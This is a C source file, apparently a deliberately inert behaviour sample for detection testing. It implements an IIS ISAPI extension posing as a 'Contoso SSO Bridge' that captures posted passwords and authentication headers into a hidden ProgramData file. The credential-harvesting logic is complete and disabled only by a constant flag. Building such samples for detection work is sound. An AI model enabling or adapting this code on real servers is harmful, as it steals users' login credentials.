/*
 * Behaviour sample 4 (x64 ISAPI extension): credential logger.
 *
 * Imitates an extension mapped in front of a login page: HttpExtensionProc
 * reads the posted body (EXTENSION_CONTROL_BLOCK lpbData + ReadClient) and
 * the server variables AUTH_USER / AUTH_PASSWORD / HTTP_AUTHORIZATION /
 * REMOTE_ADDR (GetServerVariable); when the body holds one of the password
 * field names it appends a timestamped record to a file under ProgramData
 * (CreateFileA FILE_APPEND_DATA + SetFilePointer + WriteFile), then answers
 * through WriteClient. Varies: no Windows\Temp path, no known log name,
 * field names other than a bare "password", extension role.
 *
 * Inert: everything is behind `if (k_inert)` (volatile const 0); the log
 * directory does not exist; GetExtensionVersion returns FALSE and
 * HttpExtensionProc returns HSE_STATUS_ERROR.
 */
#include "inert.h"
#include <httpext.h>
#include <stdio.h>
#include <string.h>

static const char k_log_path[] =
    "C:\\ProgramData\\Contoso\\SsoBridge\\cache\\sess-7f3a.dat";
static const char *const k_pw_fields[] = {
    "txtPwd=", "passwd=", "user_pass=", "Passwd=", "pass=",
};
static const char *const k_vars[] = {
    "AUTH_USER", "AUTH_PASSWORD", "HTTP_AUTHORIZATION", "REMOTE_ADDR",
};

static NOINLINE void append_record(const char *rec, DWORD len)
{
    DWORD wrote = 0;
    HANDLE f = CreateFileA(k_log_path, FILE_APPEND_DATA, FILE_SHARE_READ, NULL,
                           OPEN_ALWAYS, FILE_ATTRIBUTE_HIDDEN, NULL);
    if (f == INVALID_HANDLE_VALUE)
        return;
    SetFilePointer(f, 0, NULL, FILE_END);
    WriteFile(f, rec, len, &wrote, NULL);
    CloseHandle(f);
}

static NOINLINE DWORD capture(EXTENSION_CONTROL_BLOCK *ecb)
{
    char body[4096];
    char rec[6144];
    char val[256];
    DWORD n = 0, cb, i;
    int hit = 0, len;
    SYSTEMTIME st;

    n = ecb->cbAvailable < sizeof(body) - 1 ? ecb->cbAvailable : sizeof(body) - 1;
    memcpy(body, ecb->lpbData, n);
    if (n < ecb->cbTotalBytes && n < sizeof(body) - 1) {
        cb = sizeof(body) - 1 - n;
        if (ecb->ReadClient(ecb->ConnID, body + n, &cb))
            n += cb;
    }
    body[n] = 0;
    for (i = 0; i < 5; i++)
        if (strstr(body, k_pw_fields[i]))
            hit = 1;
    GetLocalTime(&st);
    len = _snprintf(rec, sizeof(rec), "%04u%02u%02u.%02u%02u%02u;",
                   st.wYear, st.wMonth, st.wDay, st.wHour, st.wMinute, st.wSecond);
    for (i = 0; i < 4; i++) {
        cb = sizeof(val);
        if (ecb->GetServerVariable(ecb->ConnID, (LPSTR)k_vars[i], val, &cb)) {
            if (i == 1 && cb > 1)
                hit = 1;
            len += _snprintf(rec + len, sizeof(rec) - len, "%s;", val);
        }
    }
    if (!hit)
        return 0;
    len += _snprintf(rec + len, sizeof(rec) - len, "%s\r\n", body);
    append_record(rec, (DWORD)len);
    cb = 2;
    ecb->WriteClient(ecb->ConnID, "OK", &cb, HSE_IO_SYNC);
    return (DWORD)len;
}

BOOL WINAPI GetExtensionVersion(HSE_VERSION_INFO *pVer)
{
    if (k_inert) {
        pVer->dwExtensionVersion = HSE_VERSION;
        lstrcpynA(pVer->lpszExtensionDesc, "Contoso SSO Bridge",
                  HSE_MAX_EXT_DLL_NAME_LEN);
        return TRUE;
    }
    return FALSE;
}

DWORD WINAPI HttpExtensionProc(EXTENSION_CONTROL_BLOCK *pECB)
{
    if (k_inert) {
        capture(pECB);
        return HSE_STATUS_SUCCESS;
    }
    return HSE_STATUS_ERROR;
}

BOOL WINAPI TerminateExtension(DWORD dwFlags)
{
    (void)dwFlags;
    return TRUE;
}
